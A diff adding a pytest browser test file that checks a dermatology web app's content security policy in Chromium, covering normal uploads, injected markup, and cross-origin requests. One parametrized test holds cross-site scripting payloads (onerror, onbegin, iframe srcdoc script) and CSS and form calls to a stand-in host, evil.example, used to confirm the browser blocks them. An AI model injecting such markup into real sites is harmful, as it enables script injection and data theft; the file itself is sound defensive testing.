@@ -1,0 +1,104 @@
+"""The page's policy in Chromium: the page works under it, and what is injected does not."""
+
+import http.server
+import io
+import json
+import threading
+
+import pytest
+from PIL import Image
+
+from dermosan_lib import phantoms
+
+pytestmark = pytest.mark.browser
+
+
+@pytest.fixture
+def tab(chromium, address):
+    page = chromium.new_page()
+    page.set_default_timeout(60_000)
+    page.complaints = []
+    page.on("console", lambda line: page.complaints.append(line.text) if line.type == "error"
+            else None)  # fmt: skip
+    page.on("pageerror", lambda error: page.complaints.append(str(error)))
+    page.goto(address)
+    page.wait_for_selector(".widget-upload")
+    yield page
+    page.close(run_before_unload=True)
+
+
+def test_a_diagnosis_breaks_no_rule(tab):
+    stream = io.BytesIO()
+    Image.fromarray(phantoms.draw("mel", seed=4, size_px=512).pixels).save(stream, "JPEG")
+    with tab.expect_file_chooser() as chooser:
+        tab.get_by_role("button", name="Choose photos").click()
+    chooser.value.set_files(
+        [{"name": "photo.jpg", "mimeType": "image/jpeg", "buffer": stream.getvalue()}]
+    )
+    tab.wait_for_selector(".dm-answer .dm-badge")
+    tab.wait_for_selector(".dm-figure .dm-heat")
+    assert tab.complaints == []
+    widths = tab.eval_on_selector_all(
+        ".dm-answer .dm-bar", "bars => bars.map(bar => bar.getBoundingClientRect().width)"
+    )
+    assert min(widths) > 50  # the style sheet arrived
+    slider = tab.locator(".dm-opacity .noUi-handle").bounding_box()
+    assert slider["width"] == pytest.approx(22, abs=4)  # and so did the widgets' own
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        "<img src=x onerror='window.harmed = 1'>",
+        "<svg><animate onbegin='window.harmed = 1' attributeName=x dur=1s></svg>",
+        "<iframe srcdoc='<script>parent.harmed = 1</script>'></iframe>",
+        "<style>h1, .dm-page { --harm: 1 } @import url(https://evil.example/x.css);</style>",
+        "<form action='https://evil.example'><button id=harm>x</button></form>",
+    ],
+)
+def test_what_is_injected_does_nothing(tab, markup):
+    tab.evaluate(
+        "markup => document.querySelector('.dm-page').insertAdjacentHTML('beforeend', markup)",
+        markup,
+    )
+    if "button" in markup:
+        tab.evaluate("document.querySelector('#harm').click()")
+    tab.wait_for_timeout(500)
+    assert tab.evaluate("window.harmed") is None
+    style = "getComputedStyle(document.querySelector('.dm-page')).getPropertyValue('--harm')"
+    assert tab.evaluate(style) == ""
+    assert "evil.example" not in tab.url
+    assert tab.complaints != []  # the browser refused
+
+
+def test_a_page_elsewhere_neither_shows_the_page_nor_starts_it(chromium, address):
+    """Another origin of the same machine asks in every way that a page can."""
+    html = f"""<img src={address}><iframe src={address}></iframe><script src={address}></script>
+      <link rel=stylesheet href={address}><link rel=prefetch href={address}?2>"""
+
+    class Elsewhere(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(html.encode())
+
+        def log_message(self, *_):
+            """Quiet."""
+
+    with http.server.HTTPServer(("127.0.0.1", 0), Elsewhere) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        page = chromium.new_page()
+        answers = []
+        page.on("response", lambda found: answers.append((found.url, found.status)))
+        page.on("requestfailed", lambda asked: answers.append((asked.url, 403)))
+        page.goto(f"http://localhost:{server.server_port}/")
+        page.evaluate(
+            "url => fetch(url, {mode: 'no-cors', credentials: 'include'}).catch(() => 0)", address
+        )
+        page.wait_for_timeout(2000)
+        server.shutdown()
+    ours = [status for url, status in answers if url.startswith(address)]
+    assert len(ours) >= 4
+    assert set(ours) == {403}, json.dumps(answers)
+    page.close()
